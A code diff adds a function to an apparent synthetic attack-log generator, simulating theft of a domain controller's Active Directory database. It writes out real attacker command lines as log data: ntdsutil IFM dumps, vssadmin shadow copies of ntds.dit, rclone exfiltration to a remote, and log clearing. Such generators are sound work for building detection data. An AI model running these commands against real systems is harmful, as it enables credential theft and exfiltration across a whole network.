@@ -149,6 +149,39 @@ def write_domain_takeover(scene: Scene) -> Story:
     return story
 
 
+def write_directory_copy(scene: Scene) -> Story:
+    """Write a domain controller's database copied with its own tools, and sent away."""
+    district, windows, dice = scene.district, scene.logs.windows, scene.dice
+    person = district.people.take("technician", "teacher")
+    account, source = get_admin_account(person), get_office_address(person)
+    controller = dice.choice(district.list_computers("controller"))
+    at = draw_start(scene, first=19, last=28)
+    story = Story(kind="directory-copy", actors=[account.name], victims=[person.email], hosts=[controller.name])
+    story.add_stage("spread", windows.log_on(controller, at, account, kind=10, address=source, package="Negotiate"))
+    at = add_minutes(at, dice.uniform(4, 25))
+    copies = (
+        ((r"C:\Windows\System32\ntdsutil.exe", r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\d" q q'),),
+        (
+            (r"C:\Windows\System32\vssadmin.exe", "vssadmin create shadow /for=C:"),
+            (
+                _CMD,
+                r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\ProgramData\d",
+            ),
+        ),
+    )
+    for number, (image, line) in enumerate(dice.choice(copies)):
+        moment = add_minutes(at, number)
+        step = windows.start_process(controller, moment, account, image=image, line=line, parent=_CMD)
+        story.add_stage("credentials", step)
+    at = add_minutes(at, dice.uniform(30, 200))
+    image, line = r"C:\ProgramData\rclone.exe", r"rclone.exe copy C:\ProgramData\d remote:d --transfers 8"
+    leave = windows.start_process(controller, at, account, image=image, line=line, parent=_CMD)
+    story.add_stage("exfiltration", leave)
+    if dice.random() < 0.5:
+        story.add_stage("exfiltration", windows.clear_log(controller, add_minutes(at, 12), account))
+    return story
+
+
 def write_remote_desktop(scene: Scene) -> Story:
     """Write passwords guessed at an open remote desktop, then a remote tool, a look around, and the next server."""
     district, windows, dice = scene.district, scene.logs.windows, scene.dice
